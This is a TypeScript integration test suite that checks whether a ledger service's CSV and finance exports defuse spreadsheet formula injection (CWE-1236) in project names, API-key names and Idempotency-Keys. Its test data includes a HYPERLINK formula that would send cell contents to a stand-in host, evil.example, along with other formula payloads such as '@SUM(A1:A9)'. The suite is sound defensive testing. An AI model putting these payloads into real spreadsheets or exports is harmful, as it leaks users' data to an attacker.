import { parseCsv } from './support/csv.js';
import { call, rename, setUpOrganization, useTestApp } from './support/test-app.js';

const PROJECT_NAME = '=1+1';
const KEY_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"open")';
/** Idempotency-Keys are printable ASCII without spaces. */
const IDEMPOTENCY_KEYS = ['=HYPERLINK("http://evil.example/?leak="&A2,"open")', '@SUM(A1:A9)', '+1+1', '-2+3'];

/**
 * CSV injection (CWE-1236): names and Idempotency-Keys that callers choose reach finance's spreadsheet through the
 * ledger's CSV export. A cell that begins as a formula (=, +, -, @, tab, CR) is written as text: a single quote
 * first, the cell quoted. Numbers stay numbers.
 */
describe('ledger CSV export: caller-chosen text is never a live formula', () => {
  let owner: Awaited<ReturnType<typeof setUpOrganization>>;
  let rows: Record<string, string>[];
  let raw: string;

  const app = useTestApp({}, 60_000);
  beforeAll(async () => {
    owner = await setUpOrganization(app, app.smtp, 'finance@csv.test');
    const project = await call(app.url, 'POST', `/orgs/${owner.orgId}/projects`, {
      token: owner.session,
      body: { name: PROJECT_NAME },
    });
    expect(project.status).toBe(201);
    const key = await call(app.url, 'POST', `/orgs/${owner.orgId}/api-keys`, {
      token: owner.session,
      body: { name: KEY_NAME, project_id: project.body.id },
    });
    expect(key.status).toBe(201);
    for (const idempotencyKey of [...IDEMPOTENCY_KEYS, '-7']) {
      const search = await call(app.url, 'POST', '/search', {
        token: key.body.key,
        body: { query: 'formula' },
        headers: { 'idempotency-key': idempotencyKey },
      });
      expect(`${search.status} ${JSON.stringify(search.body)}`).toMatch(/^200 /);
    }
    // The ledger is a projection: wait until it shows the five charges.
    for (const deadline = Date.now() + 10_000; Date.now() < deadline;) {
      const page = await call(app.url, 'GET', `/orgs/${owner.orgId}/ledger`, { token: owner.session });
      if (page.body.entries?.length === 5) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    const response = await fetch(`${app.url}/orgs/${owner.orgId}/ledger`, {
      headers: { authorization: `Bearer ${owner.session}`, accept: 'text/csv' },
    });
    expect(response.status).toBe(200);
    raw = await response.text();
    const [header, ...records] = parseCsv(raw);
    rows = records.map((record) => Object.fromEntries(header!.map((name, i) => [name, record[i]!])));
    expect(rows).toHaveLength(5);
  }, 60_000);

  test('project_name: a project named =1+1 is the text =1+1', () => {
    for (const row of rows) expect(row.project_name).toBe(`'${PROJECT_NAME}`);
    expect(raw).toContain(`,"'=1+1",`);
  });

  test('key_name: a HYPERLINK key name is text, quoted, with its quotes doubled', () => {
    for (const row of rows) expect(row.key_name).toBe(`'${KEY_NAME}`);
    expect(raw).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""open"")",`);
  });

  test('idempotency_key: any API-key holder’s Idempotency-Key is text; a plain number stays a number', () => {
    const expected = [...IDEMPOTENCY_KEYS.map((key) => `'${key}`), '-7'];
    expect(rows.map((row) => row.idempotency_key).sort()).toEqual(expected.sort());
    expect(raw).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""open"")",`);
    expect(raw).toContain(`,"'-2+3",`);
    expect(raw).toContain(',-7,');
  });

  test('the finance export neutralises the same cells', async () => {
    const response = await fetch(`${app.url}/orgs/${owner.orgId}/ledger?format=finance`, {
      headers: { authorization: `Bearer ${owner.session}`, accept: 'text/csv' },
    });
    const [header, ...all] = parseCsv(await response.text());
    const cell = (record: string[], name: string) => record[header!.indexOf(name)];
    const records = all.filter((record) => cell(record, 'Record') === 'charge');
    expect(records).toHaveLength(5);
    expect(all.slice(5).map((record) => [cell(record, 'Record'), cell(record, 'Credits')])).toEqual([
      ['total', '5'],
      ['total', '0'],
    ]);
    for (const record of records) {
      expect(cell(record, 'Project')).toBe(`'${PROJECT_NAME}`);
      expect(cell(record, 'Key')).toBe(`'${KEY_NAME}`);
      expect(cell(record, 'Credits')).toBe('1');
    }
    const expected = [...IDEMPOTENCY_KEYS.map((key) => `'${key}`), '-7'];
    expect(records.map((record) => cell(record, 'Idempotency key')).sort()).toEqual(expected.sort());
  });

  test('a rename to a formula: today’s names beside the names as charged are text too', async () => {
    const keys = await call(app.url, 'GET', `/orgs/${owner.orgId}/api-keys`, { token: owner.session });
    const keyId = (keys.body.keys as { id: string; name: string }[]).find((k) => k.name === KEY_NAME)!.id;
    await rename(app, owner, `api-keys/${keyId}`, '@SUM(A1:A9)');
    const audit = await fetch(`${app.url}/orgs/${owner.orgId}/ledger`, {
      headers: { authorization: `Bearer ${owner.session}`, accept: 'text/csv' },
    });
    const text = await audit.text();
    const [header, ...records] = parseCsv(text);
    for (const record of records) {
      expect(record[header!.indexOf('key_name')]).toBe(`'${KEY_NAME}`);
      expect(record[header!.indexOf('key_name_now')]).toBe("'@SUM(A1:A9)");
    }
    expect(text).toContain(`,"'@SUM(A1:A9)",`);
    const finance = await fetch(`${app.url}/orgs/${owner.orgId}/ledger?format=finance`, {
      headers: { authorization: `Bearer ${owner.session}`, accept: 'text/csv' },
    });
    const [financeHeader, ...financeRecords] = parseCsv(await finance.text());
    const charges = financeRecords.filter((record) => record[0] === 'charge');
    expect(charges.map((record) => record[financeHeader!.indexOf('Key now')])).toEqual(
      charges.map(() => "'@SUM(A1:A9)"),
    );
  });

  test('the numeric columns are untouched', () => {
    for (const row of rows) {
      expect(row.credits).toBe('1');
      expect(row.commit_position).toMatch(/^\d+$/);
    }
  });
});
